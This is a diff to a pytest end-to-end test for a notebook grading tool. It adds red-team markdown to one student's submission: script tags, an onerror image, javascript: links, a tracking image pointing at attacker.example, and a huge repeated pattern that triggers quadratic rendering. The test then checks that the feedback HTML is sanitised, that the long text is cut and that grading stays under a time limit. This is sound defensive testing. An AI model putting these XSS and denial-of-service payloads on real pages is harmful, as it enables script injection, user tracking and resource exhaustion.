@@ -218,7 +218,12 @@ def test_end_to_end_with_nbgrader(tmp_path):
                         "    raise ValueError('bad \\ud800 \\x1b[31m <b>bold</b>')\n")
             c.metadata["evil"] = "\udfff"
         if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("grade_id") == "q_scale_invariance":
-            c.source = "<script>alert(1)</script><img src=x onerror=alert(2)> \ud800 $a < b$"
+            # and (red team, grading v2) a javascript: link, a tracking image, a reference
+            # definition, and 0.96 M characters (under the cell limit) of a pattern nbconvert's
+            # markdown filter renders in quadratic time (hours at the file limits)
+            c.source = ("<script>alert(1)</script><img src=x onerror=alert(2)> \ud800 $a < b$\n\n"
+                        "[see](javascript:alert(3)) ![](https://attacker.example/p.png?who=eve)\n\n"
+                        "[r]: javascript:alert(4)\n\n" + "\\begin{}" * 120_000)
     eve_dir = tmp_path / "grading" / "submitted" / "eve" / aid
     eve_dir.mkdir(parents=True)
     (eve_dir / f"{aid}.ipynb").write_text(json.dumps(json.loads(nbformat.writes(eve, ensure_ascii=True))))
@@ -231,7 +236,11 @@ def test_end_to_end_with_nbgrader(tmp_path):
     (bad / "timestamp.txt").write_text("2026-01-02 03:04:05.000000 UTC")
     (tmp_path / "grading" / "grading_seed").write_text("99\n")
     total = float(sum(module(aid).CHECKS.values()))
+    import time
+
+    t0 = time.monotonic()
     csv_path = grade_tool.grade(aid, tmp_path, jobs=2)
+    assert time.monotonic() - t0 < 240
     assert _csv_scores(csv_path) == {"alice": total, "bob": 0.0, "carol": 0.0,
                                      "dave": total - module(aid).CHECKS["adagrad"],
                                      "eve": total - module(aid).CHECKS["adagrad"]}
@@ -239,6 +248,8 @@ def test_end_to_end_with_nbgrader(tmp_path):
     assert "bad \ufffd" in eve_html and "&lt;b&gt;bold" in eve_html  # the message, made safe
     assert "<script>alert" not in eve_html and "onerror=alert" not in eve_html.replace("&lt;img src=x onerror=alert", "")
     assert "&lt;script&gt;alert(1)" in eve_html
+    assert 'href="javascript' not in eve_html.lower() and 'src="https://attacker' not in eve_html
+    assert "characters cut" in eve_html
     html = (tmp_path / "grading" / "feedback" / "bob" / aid / f"{aid}.html").read_text()
     assert "adam_step (m, v and t over several steps) is not implemented yet" in html
     assert "HIDDEN TESTS" not in html and "check_adam_moments_hidden" not in html
